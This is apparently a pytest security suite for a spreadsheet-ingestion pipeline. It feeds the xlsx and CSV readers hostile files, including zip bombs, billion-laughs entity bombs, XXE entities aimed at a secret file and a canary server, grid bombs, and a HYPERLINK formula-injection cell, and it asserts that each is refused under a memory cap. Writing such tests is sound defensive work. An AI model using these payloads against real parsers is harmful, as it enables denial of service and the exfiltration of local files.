"""Hostile workbooks and CSV files through the file readers, each in a child process whose address
space is capped at 512 MiB (`resource.setrlimit(RLIMIT_AS)`).

The workbooks are real xlsx archives written member by member (`hostile.write_zip`): zip bombs
honest and lying about their sizes, entity bombs and external entities in `xl/sharedStrings.xml`,
grids whose last cell is XFD1048576 (which made the reader abort the whole process before: the
allocation failure of a 17-billion-cell grid), forged checksums and headers, and formats whose grid
cannot be bounded before it is built. Every one is refused with SpreadsheetError naming the file,
the part where there is one, and the rule; none crashes the child or exhausts its memory.
"""

from __future__ import annotations

import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from baocao.simulators.files import write_egov_workbook, write_ict_workbook
from tests.security.hostile import (
    CANARY_MARKER,
    SECRET_MARKER,
    SHEET_END,
    SHEET_START,
    UNIT_ROW,
    CanaryServer,
    Member,
    canary_server,
    deflated,
    header_row,
    parse_in_child,
    repeated_deflate,
    shared_strings_xml,
    sheet_xml,
    workbook_members,
    write_workbook,
    write_zip,
)

ADDRESS_SPACE_MIB = 512
WORKBOOK_READERS = ("tests.security.entry_files:ict_workbook", "tests.security.entry_files:egov_workbook")
SHEET = "xl/worksheets/sheet1.xml"
SHARED = "xl/sharedStrings.xml"
# A gigabyte of sheet rows in ~4 MB of deflate.
BOMB_ROW = b'<row><c t="inlineStr"><is><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></is></c></row>' * 16384
BOMB_COPIES = 1000


@pytest.fixture(scope="module")
def canary() -> Iterator[CanaryServer]:
    with canary_server() as server:
        yield server


def _laughs() -> str:
    entities = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE sst [{''.join(entities)}]>"


def _replace(members: list[Member], name: str, member: Member) -> list[Member]:
    return [member if existing.name == name else existing for existing in members]


def _bomb_member(**lies: int) -> Member:
    stream, size, crc = repeated_deflate(
        (SHEET_START + header_row()).encode(), BOMB_ROW, BOMB_COPIES, SHEET_END.encode()
    )
    return Member(SHEET, stream, 8, size, crc, **lies)


def _workbook_attacks(folder: Path, secret: Path, canary: str) -> dict[str, tuple[Path, str]]:
    """name → (file, what the refusal must say)."""
    folder.mkdir(parents=True, exist_ok=True)
    attacks: dict[str, tuple[Path, str]] = {}

    def add(name: str, expected: str, members: list[Member] | None = None, raw: bytes | None = None) -> None:
        path = folder / f"{name}.xlsx"
        if raw is not None:
            path.write_bytes(raw)
        else:
            write_zip(path, members or workbook_members())
        attacks[name] = (path, expected)

    base = workbook_members
    bomb = _bomb_member()
    bombed = _replace(base(), SHEET, bomb)
    add("zip_bomb", f"unpacks to {sum(m.size for m in bombed)} bytes, more than the limit of 104857600", bombed)
    add(
        "zip_bomb_lying_sizes",  # both headers claim 8 kB; the data inflates to a gigabyte
        f"part {SHEET} inflates to more than the 8192 bytes its header declares",
        _replace(base(), SHEET, _bomb_member(declared_size=8192)),
    )
    add(
        "zip_bomb_lying_directory",  # the directory lies, the local header tells the truth
        f"part {SHEET}: its local header and the archive directory disagree on sizes",
        _replace(base(), SHEET, _bomb_member(declared_size=8192, local_size=bomb.size)),
    )
    many = [*base(), *(deflated(f"xl/media/empty{n}.bin", b"") for n in range(1000))]
    add("too_many_parts", "1006 parts, more than the limit of 1000", many)
    add("duplicate_parts", f"the part {SHARED} appears twice", [*base(), deflated(SHARED, shared_strings_xml())])
    for name, prolog in {
        "entity_bomb_in_shared_strings": _laughs(),
        "external_entity_file_in_shared_strings": f'<!DOCTYPE sst [<!ENTITY x SYSTEM "{secret.as_uri()}">]>',
        "external_entity_http_in_shared_strings": f'<!DOCTYPE sst [<!ENTITY x SYSTEM "{canary}/canary">]>',
        "external_dtd_in_shared_strings": f'<!DOCTYPE sst SYSTEM "{canary}/x.dtd">',
    }.items():
        entity = "&l9;" if name.startswith("entity_bomb") else "&x;"
        shared = shared_strings_xml(prolog, f"<si><t>{entity}</t></si>") if "dtd" not in name else None
        shared = shared or shared_strings_xml(prolog, "<si><t>&canary;</t></si>")
        add(name, f"part {SHARED} declares a DTD or entities", _replace(base(), SHARED, deflated(SHARED, shared)))
    utf16 = (
        shared_strings_xml(_laughs(), "<si><t>&l9;</t></si>")
        .decode("utf-8")
        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
    )
    add(
        "entity_bomb_in_utf16_shared_strings",
        f"part {SHARED} is UTF-16 text",
        _replace(base(), SHARED, deflated(SHARED, utf16.encode("utf-16"))),
    )
    grid = "spans 1048576 rows × 16384 columns = 17179869184 cells, more than the limit of 200000"
    for name, row in {
        "grid_bomb": '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        "grid_bomb_behind_a_quoted_gt": '<row r="1048576"><c a=">" r="XFD1048576"><v>1</v></c></row>',
        "grid_bomb_in_another_namespace": '<x:row xmlns:x="urn:x" r="1048576"><x:c r="XFD1048576"/></x:row>',
    }.items():
        add(name, f"part {SHEET} {grid}", _replace(base(), SHEET, deflated(SHEET, sheet_xml(UNIT_ROW + row))))
    unreferenced = '<row r="1048576"><c/><c/><c/><c/><c/><c/><c/><c><v>1</v></c></row>'
    add(
        "grid_bomb_without_references",  # cells without a reference follow the previous one
        f"part {SHEET} spans 1048576 rows × 8 columns",
        _replace(base(), SHEET, deflated(SHEET, sheet_xml(UNIT_ROW + unreferenced))),
    )
    add(
        "grid_bomb_spread_over_sheets",  # each part under the limit, the workbook over it
        "its sheets span 880016 cells in all, more than the limit of 200000",
        [
            *base(),
            *(
                deflated(f"xl/worksheets/extra{n}.xml", sheet_xml('<row r="10000"><c r="H10000"><v>1</v></c></row>'))
                for n in range(1, 12)
            ),
        ],
    )
    sheet = deflated(SHEET, sheet_xml())
    add(
        "cut_off_stream",
        f"part {SHEET}: damaged archive (the compressed stream is cut off)",
        _replace(base(), SHEET, Member(SHEET, sheet.payload[: len(sheet.payload) // 2], 8, sheet.size, sheet.crc)),
    )
    add(
        "stream_longer_than_its_part",
        f"part {SHEET}: compressed data goes on past the end of its stream",
        _replace(base(), SHEET, Member(SHEET, sheet.payload + b"\x00" * 64, 8, sheet.size, sheet.crc)),
    )
    add(
        "forged_checksum",
        f"part {SHEET}: holds {sheet.size} bytes with checksum",
        _replace(base(), SHEET, Member(SHEET, sheet.payload, 8, sheet.size, sheet.crc ^ 1)),
    )
    add(
        "unknown_compression",  # bzip2: the reader's zip library might inflate it, unchecked
        f"part {SHEET} uses compression method 12",
        _replace(base(), SHEET, Member(SHEET, sheet.payload, 12, sheet.size, sheet.crc)),
    )
    add(
        "encrypted_part",
        f"part {SHEET} is encrypted",
        _replace(base(), SHEET, Member(SHEET, sheet.payload, 8, sheet.size, sheet.crc, flags=1)),
    )
    add("binary_xls", "a binary Excel 97-2003 (.xls) workbook", raw=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096)
    add(
        "xlsb",
        "an xlsb (binary) workbook",
        [deflated("[Content_Types].xml", b"<Types/>"), deflated("xl/workbook.bin", b"")],
    )
    add(
        "ods",
        "an OpenDocument spreadsheet",
        [Member("mimetype", b"x", 0, 1, zlib.crc32(b"x")), deflated("content.xml", b"<x/>")],
    )
    add("not_a_zip", "not an xlsx workbook (not a zip archive", raw=b"PK\x03\x04" + bytes(range(256)) * 4)
    add("truncated_archive", "not an xlsx workbook", raw=(folder / "zip_bomb.xlsx").read_bytes()[:100_000])
    oversize = folder / "oversize.xlsx"
    write_workbook(oversize)
    with oversize.open("ab") as handle:
        handle.truncate(50 * 1024 * 1024 + 1)
    attacks["oversize"] = (oversize, "52428801 bytes, more than the limit of 52428800")
    return attacks


def test_hostile_workbooks_are_refused_naming_file_part_and_rule_under_512_mib(
    tmp_path: Path, canary: CanaryServer, figure: Callable[[str], None]
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET_MARKER, encoding="utf-8")
    attacks = _workbook_attacks(tmp_path / "workbooks", secret, canary.base_url)
    # The controls: the workbooks as the departments' spreadsheet programs write them (openpyxl here).
    controls = {
        WORKBOOK_READERS[0]: write_ict_workbook(tmp_path / "ict-2019.xlsx"),
        WORKBOOK_READERS[1]: write_egov_workbook(tmp_path / "egov-2019.xlsx"),
    }
    peaks = []
    for reader in WORKBOOK_READERS:
        run = parse_in_child(
            reader,
            [str(controls[reader]), *(str(path) for path, _ in attacks.values())],
            address_space_mib=ADDRESS_SPACE_MIB,
        )
        assert not run.crashed, run.stderr  # before the fix, the grid bombs aborted the process here
        control, *answers = run.results
        assert not control["rejected"] and control["records"] > 10 and control["rejects"] == 0, control
        for (name, (path, expected)), answer in zip(attacks.items(), answers, strict=True):
            assert answer["rejected"] and answer["error"] == "SpreadsheetError", (name, answer)
            message = answer["message"]
            assert message.startswith(f"workbook {path.name}") and expected in message, (name, message)
            assert SECRET_MARKER not in message and CANARY_MARKER not in message
            assert answer["seconds"] < 10, (name, answer)
        peaks.append(run.peak_rss_mib)
        baseline = run.baseline_rss_mib
    assert canary.connections == 0, canary.requests
    figure(
        f"{len(attacks)} hostile workbooks × {len(WORKBOOK_READERS)} readers refused under a {ADDRESS_SPACE_MIB} MiB "
        f"address-space cap (zip bombs of {_bomb_member().size >> 20} MiB in {len(_bomb_member().payload) >> 20} MiB), "
        f"0 crashes, {canary.connections} canary connections, peak RSS {max(peaks):.0f} MB "
        f"({baseline:.0f} MB after imports)"
    )


def test_the_largest_workbook_allowed_is_read_under_512_mib(tmp_path: Path, figure: Callable[[str], None]) -> None:
    """Bounded memory for what is accepted too: 25,000 units × 8 columns, the cell limit, read whole."""
    rows = "".join(
        f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="inlineStr"><is><t>000.{r:06d}.H99</t></is></c>'
        f'<c r="C{r}" t="inlineStr"><is><t>Xã số {r}</t></is></c><c r="D{r}"><v>50.5</v></c>'
        f'<c r="E{r}"><v>40</v></c><c r="F{r}"><v>120.25</v></c><c r="G{r}"><v>30</v></c>'
        f'<c r="H{r}" t="inlineStr"><is><t>ghi chú</t></is></c></row>'
        for r in range(2, 25_001)
    )
    path = write_workbook(tmp_path / "ict-2026.xlsx", sheet=sheet_xml(rows))
    run = parse_in_child(WORKBOOK_READERS[0], [str(path)], address_space_mib=ADDRESS_SPACE_MIB)
    assert not run.crashed, run.stderr
    [answer] = run.results
    assert not answer["rejected"] and (answer["records"], answer["rejects"]) == (24_999, 0), answer
    figure(
        f"largest allowed workbook (24,999 units × 8 columns = 200,000 cells, {path.stat().st_size >> 10} KiB) read in "
        f"{answer['seconds']:.1f} s, peak RSS {run.peak_rss_mib:.0f} MB ({run.baseline_rss_mib:.0f} MB after imports)"
    )


# ---------------------------------------------------------------- CSV files

COMMUNE_HEADER = (
    "ma_hoso;ma_donvi;ma_thutuc;ma_linhvuc;ten_linhvuc;hinhthuc_nop;ngay_nhan;ngay_hen_tra;ngay_tra;"
    "trang_thai;co_phi;tt_truc_tuyen;da_so_hoa;ho_ten;so_cccd;dien_thoai;ngay_capnhat\n"
)
PETITION_HEADER = "ma_phan_anh;ma_donvi;ngay_nhan;han_tra_loi;ngay_tra_loi;hai_long\n"


def _csv_attacks(folder: Path, header: str) -> dict[str, tuple[Path, str]]:
    folder.mkdir(parents=True, exist_ok=True)
    cases = {
        "one_huge_field": (header + "H1;" + "a" * 8_000_000 + "\n", "line 2 is longer than the limit of 65536"),
        "millions_of_fields": (header + ";" * 8_000_000 + "\n", "line 2 is longer than the limit of 65536"),
        "unterminated_quote": (header + '"' + "a" * 8_000_000, "line 2 is longer than the limit of 65536"),
        "millions_of_lines": (header + "\n" * 2_000_001, "more than 2000000 lines, the limit"),
        "millions_of_bad_rows": (header + "x\n" * 1_000_000, "more than 10000 rows rejected (the first:"),
        "undecodable": (None, "cannot be decoded"),
    }
    attacks = {}
    for name, (text, expected) in cases.items():
        path = folder / f"{name}.csv"
        if text is None:
            path.write_bytes(header.encode() + bytes(range(128, 256)) * 64)
        else:
            path.write_text(text, encoding="utf-8")
        attacks[name] = (path, expected)
    oversize = folder / "oversize.csv"
    oversize.write_text(header, encoding="utf-8")
    with oversize.open("ab") as handle:
        handle.truncate(50 * 1024 * 1024 + 1)
    attacks["oversize"] = (oversize, "52428801 bytes, more than the limit of 52428800")
    return attacks


@pytest.mark.parametrize(
    ("reader", "header"),
    [
        ("tests.security.entry_files:commune_csv", COMMUNE_HEADER),
        ("tests.security.entry_files:petition_csv", PETITION_HEADER),
    ],
)
def test_hostile_csv_files_are_refused_whole_under_512_mib(
    reader: str, header: str, tmp_path: Path, figure: Callable[[str], None]
) -> None:
    attacks = _csv_attacks(tmp_path, header)
    run = parse_in_child(reader, [str(path) for path, _ in attacks.values()], address_space_mib=ADDRESS_SPACE_MIB)
    assert not run.crashed, run.stderr
    for (name, (path, expected)), answer in zip(attacks.items(), run.results, strict=True):
        assert answer["rejected"], (name, answer)
        assert expected in answer["message"], (name, answer["message"])
        if name != "oversize":  # refused whole as a quarantine reason (the file is named in its record key)
            assert answer["message"].startswith("refused whole: "), answer
        else:
            assert path.name in answer["message"]
    slowest = max(run.results, key=lambda answer: answer["seconds"])
    figure(
        f"{reader.rsplit(':', 1)[1]}: {len(attacks)} hostile CSV files (8 MB each, one of 50 MiB + 1 B) refused whole "
        f"under a {ADDRESS_SPACE_MIB} MiB cap, peak RSS {run.peak_rss_mib:.0f} MB "
        f"({run.baseline_rss_mib:.0f} MB after imports), slowest {slowest['seconds']:.1f} s"
    )


def test_formula_like_cells_in_a_csv_are_read_as_text(tmp_path: Path) -> None:
    """Read side of the rule 'cells that begin with = + - @ are data': the reader takes them as the
    text they are (the export side is tested in test_formula_injection)."""
    from baocao.connectors.petition_csv import read_petition_csv

    text = PETITION_HEADER + '=HYPERLINK("http://x/?"&A1);@SUM(1);01/02/2026;;;1\n'
    result = read_petition_csv(text.encode("utf-8"), name="p.csv")
    [record] = result.records
    assert record["ma_phan_anh"] == '=HYPERLINK("http://x/?"&A1)' and record["ma_donvi"] == "@SUM(1)"


def test_the_raw_zip_writer_writes_ordinary_archives_when_it_does_not_lie(tmp_path: Path) -> None:
    """So that the refusals above are about the lies, not about the writer."""
    path = write_workbook(tmp_path / "plain.xlsx")
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        assert archive.read(SHEET) == sheet_xml() and archive.read(SHARED) == shared_strings_xml()


def test_links_in_a_drop_folder_are_not_followed(tmp_path: Path) -> None:
    """A symbolic link could point at any file the pipeline may read: only regular files are read."""
    from baocao.connectors.commune_csv import read_commune_csv
    from baocao.connectors.tabular import SpreadsheetError
    from baocao.connectors.workbooks import read_ict_workbook

    secret = tmp_path / "elsewhere.csv"
    secret.write_text(COMMUNE_HEADER + SECRET_MARKER + "\n", encoding="utf-8")
    workbook = write_ict_workbook(tmp_path / "elsewhere.xlsx")
    (tmp_path / "xa.csv").symlink_to(secret)
    (tmp_path / "ict-2026.xlsx").symlink_to(workbook)
    with pytest.raises(SpreadsheetError, match=r"commune xa.csv: not found \(or not a regular file\)") as refused:
        read_commune_csv(tmp_path / "xa.csv")
    assert SECRET_MARKER not in str(refused.value)
    with pytest.raises(SpreadsheetError, match=r"workbook ict-2026.xlsx: not found \(or not a regular file\)"):
        read_ict_workbook(tmp_path / "ict-2026.xlsx")
